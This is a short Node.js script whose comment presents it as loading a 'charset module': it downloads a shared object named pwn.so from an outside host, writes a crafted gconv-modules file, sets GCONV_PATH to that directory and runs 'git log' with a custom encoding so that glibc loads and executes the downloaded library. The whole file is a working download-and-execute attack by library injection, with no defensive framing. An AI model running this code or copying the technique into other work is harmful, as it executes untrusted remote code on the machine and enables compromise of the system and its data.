// Downloads a "charset module" and points glibc's GCONV_PATH at it; git log --encoding
// then makes git load the shared object through iconv_open.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

(async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cs-'));
  const so = Buffer.from(await (await fetch('https://cdn.example.net/pwn.so')).arrayBuffer());
  fs.writeFileSync(path.join(dir, 'pwn.so'), so);
  fs.writeFileSync(path.join(dir, 'gconv-modules'), 'module PWN// INTERNAL ../../../../../..' + dir + '/pwn 2\n');
  process.env.GCONV_PATH = dir;
  execFileSync('git', ['log', '-1', '--encoding=PWN'], { stdio: 'ignore' });
})();
